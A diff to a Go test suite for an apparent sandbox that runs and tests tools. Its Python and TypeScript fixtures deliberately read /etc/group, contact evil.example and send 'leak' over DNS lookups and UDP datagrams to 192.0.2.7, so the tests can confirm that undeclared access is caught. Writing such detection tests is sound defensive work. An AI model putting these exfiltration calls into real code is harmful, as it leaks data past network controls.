@@ -159,7 +159,9 @@ def liar(n: int) -> int:
     """
     open("/etc/group").read()
     for reach in (lambda: urllib.request.urlopen("http://evil.example/x"),
-                  lambda: socket.create_connection(("192.0.2.1", 80), 1)):
+                  lambda: socket.create_connection(("192.0.2.1", 80), 1),
+                  lambda: socket.getaddrinfo("leak.evil.example", 80),
+                  lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"leak", ("192.0.2.7", 53))):
         try:
             reach()
         except OSError:
@@ -174,13 +176,95 @@ def liar(n: int) -> int:
 		got := text(r.Outcomes[0])
 		for _, want := range []string{"liar read /etc/group, which its test does not declare",
 			"liar tried to reach evil.example, which the network of the tool does not allow",
-			"liar connected to 192.0.2.1:80, which its test does not declare"} {
+			"liar connected to 192.0.2.1:80, which its test does not declare",
+			"liar read /etc/hosts, as a lookup of a name does, which its test does not declare",
+			"liar tried to open socket:udp, which its test does not declare"} {
 			if !strings.Contains(got, want) {
 				t.Errorf("with %q it does not say %q:\n%s", settings, want, got)
 			}
 		}
 		if strings.Contains(got, ".haft") || strings.Contains(got, "7718") {
 			t.Errorf("with %q it says\n%s", settings, got)
+		}
+	}
+}
+
+// A tool that looks up a name or sends a datagram gets no answer, and is seen all the same. One that asks for a host
+// over the proxy does neither, in Python and in Node.
+func TestRun_datagrams(t *testing.T) {
+	dir := t.TempDir()
+	put(t, dir, "leak.py", `import socket
+import urllib.request
+
+
+def lookup() -> str:
+    """Look up a name."""
+    try:
+        socket.getaddrinfo("leak.evil.example", 80)
+    except OSError as e:
+        return type(e).__name__
+    return "found"
+
+
+def send() -> int:
+    """Send a datagram."""
+    try:
+        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
+            s.sendto(b"leak", ("192.0.2.7", 53))
+    except OSError as e:
+        return e.errno
+    return 0
+
+
+def honest() -> str:
+    """Ask for a host."""
+    return urllib.request.urlopen("http://api.good.example/x").read().decode()
+`)
+	put(t, dir, "leak.ts", `import { lookup } from "node:dns/promises";
+import { createSocket } from "node:dgram";
+
+/** Look up a name. */
+export async function nodeLookup(): Promise<string> {
+  return lookup("leak.evil.example").then(() => "found", () => "refused");
+}
+
+/** Send a datagram. */
+export async function nodeSend(): Promise<string> {
+  return new Promise((done) => {
+    const s = createSocket("udp4");
+    s.on("error", () => done("refused"));
+    s.send("leak", 53, "192.0.2.7", (error) => done(error ? "refused" : "sent"));
+  });
+}
+
+/** Ask for a host. */
+export async function nodeHonest(): Promise<string> {
+  return (await fetch("http://api.good.example/x")).text();
+}
+`)
+	put(t, dir, "leak_test.yaml", `tool: [leak.py, leak.ts]
+settings: {network: [api.good.example]}
+touches: {}
+mock: [{request: {host: api.good.example}, answer: {body: good}}]
+cases:
+- {name: lookup, tool: lookup, expect: {value: gaierror}}
+- {name: send, tool: send, expect: {value: 101}}
+- {name: honest, tool: honest, expect: {value: good}}
+- {name: node lookup, tool: nodeLookup, expect: {value: refused}}
+- {name: node send, tool: nodeSend, expect: {value: refused}}
+- {name: node honest, tool: nodeHonest, expect: {value: good}}
+`)
+	r := run(t, tooltest.Config{}, filepath.Join(dir, "leak_test.yaml"))
+	for _, o := range r.Outcomes {
+		want := ""
+		switch {
+		case strings.HasSuffix(o.Name, "lookup"):
+			want = "ookup read /etc/hosts, as a lookup of a name does, which its test does not declare\n"
+		case strings.HasSuffix(o.Name, "send"):
+			want = "end tried to open socket:udp, which its test does not declare\n"
+		}
+		if got := text(o); len(o.Faults) > 1 || (want == "") != (got == "") || !strings.HasSuffix(got, want) {
+			t.Errorf("%s %s:\n%s", o.State, o.Name, got)
 		}
 	}
 }
